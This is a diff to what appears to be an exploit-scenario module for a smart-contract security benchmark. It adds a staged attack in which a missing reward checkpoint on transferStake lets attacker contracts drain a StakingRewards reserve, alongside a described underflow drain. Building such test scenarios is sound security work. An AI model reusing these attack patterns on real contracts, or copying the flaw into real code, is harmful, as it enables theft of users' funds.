@@ -7,6 +7,9 @@
 - `gen-unchecked-underflow`: PointsLedger.transfer subtracts in an `unchecked` block with no
   balance check; a 1-point transfer from an empty account wraps it to 2**256 - 1, and the
   attacker redeems every ether the ledger holds.
+- `gen-reward-checkpoint-skip`: StakingRewards checkpoints the caller on every path but never the
+  recipient of `transferStake`, whose rewards accrue from timestamp 0; a stake moved to a fresh
+  account claims the whole reward reserve.
 """
 
 from __future__ import annotations
@@ -30,6 +33,8 @@ VICTIM_DEPOSIT = 10 * ETHER
 POINTS = {"alice": 5, "bob": 7, "frank": 3}
 REDEEMED_POINTS = 2 * ETHER * 1_000
 """bob redeems 2 ETH worth of points."""
+REWARD_RESERVE = 20 * ETHER
+STAKERS = {"alice": 10, "carol": 4}
 
 
 async def stage_clone_donation(world: World) -> ScenarioRecord:
@@ -95,6 +100,40 @@ async def stage_unchecked_underflow(world: World) -> ScenarioRecord:
     )
 
 
+async def stage_checkpoint_skip(world: World) -> ScenarioRecord:
+    chain, a = world.chain, actor_address
+    rewards = await deploy_own(chain, "deployer", "StakingRewards")
+    mover = await deploy_own(chain, ATTACKER, "StakeMover")
+    casher = await deploy_own(chain, ATTACKER, "StakeCasher")
+    await chain.mine()
+    await chain.send("deployer", rewards.address, value=REWARD_RESERVE, what="reward top-up")
+    await rewards.fund("stake", STAKERS)
+    await rewards.send("alice", "claim")
+    await chain.mine()
+    await rewards.send("carol", "unstake", 1 * ETHER)
+    await chain.mine()
+    staked = (sum(STAKERS.values()) - 1) * ETHER
+    reserve = await rewards.call("rewardReserve")
+    drain = await mine_exploit(
+        chain,
+        lambda: mover.send(
+            ATTACKER, "attack", rewards.address, casher.address, value=ETHER, gas=400_000
+        ),
+        victim=rewards.address,
+        attacker=a(ATTACKER),
+        held=staked + reserve,
+        left=staked,
+        what="reward checkpoint skip",
+    )
+    expect("reserve left", await rewards.call("rewardReserve"), 0)
+    return CHECKPOINT_SKIP.exploited(
+        drain,
+        attacker=a(ATTACKER),
+        contracts=[mover.address, casher.address],
+        victims=[rewards.address],
+    )
+
+
 CLONE_DONATION = Scenario(
     id="gen-clone-vault-donation",
     title="EIP-1167 clone vault: front-run donation, victim deposit mints 0 shares, redeem",
@@ -121,4 +160,18 @@ UNCHECKED_UNDERFLOW = Scenario(
     stage=stage_unchecked_underflow,
     severity="critical",
     loss_text="every ether behind the points (13 ETH)",
+)
+CHECKPOINT_SKIP = Scenario(
+    id="gen-reward-checkpoint-skip",
+    title="StakingRewards: a stake moved to a fresh account earns rewards since timestamp 0",
+    description=(
+        "StakingRewards checkpoints the caller before every stake change, but transferStake "
+        "never checkpoints the recipient. StakeMover stakes 1 ETH and moves it to StakeCasher, "
+        "whose first claim is 1 ETH x 1.7e9 seconds of rewards - capped at the whole reserve - "
+        "then unstakes; the stakers' principal stays, their rewards are gone."
+    ),
+    vulnerability_class="logic_flaw",
+    stage=stage_checkpoint_skip,
+    severity="critical",
+    loss_text="the whole reward reserve (about 20 ETH)",
 )
